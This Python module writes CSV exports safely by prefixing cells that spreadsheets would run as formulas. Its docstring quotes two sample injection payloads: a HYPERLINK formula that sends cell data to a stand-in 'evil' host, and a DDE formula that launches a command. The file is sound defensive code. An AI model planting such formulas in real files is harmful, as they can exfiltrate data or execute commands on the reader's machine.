"""Writing CSV files a spreadsheet cannot turn against their reader.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula, so a contact named
``=HYPERLINK("http://evil/?"&A1,"Click")`` or ``=cmd|' /C calc'!A0`` would act when the
export is opened. Every CSV the app writes goes through :func:`csv_writer`, which
writes each text cell through :func:`~segment_tui.services.contacts.csv_reading.neutralise_cell`
(OWASP's advice:
prefix a ``'``); ``contacts import`` reads it back through
:func:`~segment_tui.services.contacts.csv_reading.restore_cell`, so an export imports back to the
same values and
exports again byte for byte (docs/security.md, "CSV files").

Numbers written as numbers (int, Decimal) are left alone: ``-5.00`` is no formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import IO, Any

from segment_tui.services.contacts.csv_reading import FORMULA_TRIGGERS, neutralise_cell

_CHECK_FIRST = frozenset(FORMULA_TRIGGERS + "'")
"""First characters of a text cell that need :func:`neutralise_cell` (most need not)."""
_NEW_LINE_BEFORE = {c: "\n" + c for c in _CHECK_FIRST}


def csv_cell(value: Any) -> Any:
    """One value as a CSV cell: blank for None, Yes/No for booleans, numbers as they
    are, text neutralised (see the module)."""
    if type(value) is str:
        return neutralise_cell(value) if value and value[0] in _CHECK_FIRST else value
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, int | float | Decimal):
        return value
    return neutralise_cell(str(value))


class CsvWriter:
    """:func:`csv.writer` whose every cell goes through :func:`csv_cell`."""

    def __init__(self, out: IO[str], **formatting: Any) -> None:
        self._writer = csv.writer(out, **formatting)

    def writerow(self, values: Iterable[Any]) -> None:
        """Write one row."""
        check = _CHECK_FIRST
        self._writer.writerow(
            [
                # Plain text that cannot start a formula is written as it is (most cells).
                v if type(v) is str and (not v or v[0] not in check) else csv_cell(v)
                for v in values
            ]
        )

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write several rows."""
        for row in rows:
            self.writerow(row)

    def write_columns(self, columns: Sequence[Sequence[Any]]) -> None:
        """Write the rows whose columns are ``columns`` (all of one length), each cell as
        :meth:`writerow` writes it. For big exports: a column of plain text none of whose
        cells can start a formula is checked and passed on in C (per cell in Python, the
        checks were a third of a 1,000,000-contact export)."""
        self._writer.writerows(zip(*(_safe_column(column) for column in columns), strict=True))


def _safe_column(column: Sequence[Any]) -> Sequence[Any]:
    """``column`` with every cell as :func:`csv_cell` makes it."""
    try:
        # A column of text, joined once: a cell starting with a trigger is a line feed
        # and the trigger (a value holding one may match too: it is then checked cell by
        # cell). Found by str's substring search, not per cell; not text raises TypeError.
        joined = "\n" + "\n".join(column)
    except TypeError:
        joined = None
    if joined is not None and not any(_NEW_LINE_BEFORE[c] in joined for c in _CHECK_FIRST):
        return column
    check = _CHECK_FIRST
    return [v if type(v) is str and (not v or v[0] not in check) else csv_cell(v) for v in column]


def csv_writer(out: IO[str], **formatting: Any) -> CsvWriter:
    """The CSV writer every CSV file of the app is written with (``formatting`` as for
    :func:`csv.writer`, e.g. ``delimiter=";"``)."""
    return CsvWriter(out, **formatting)
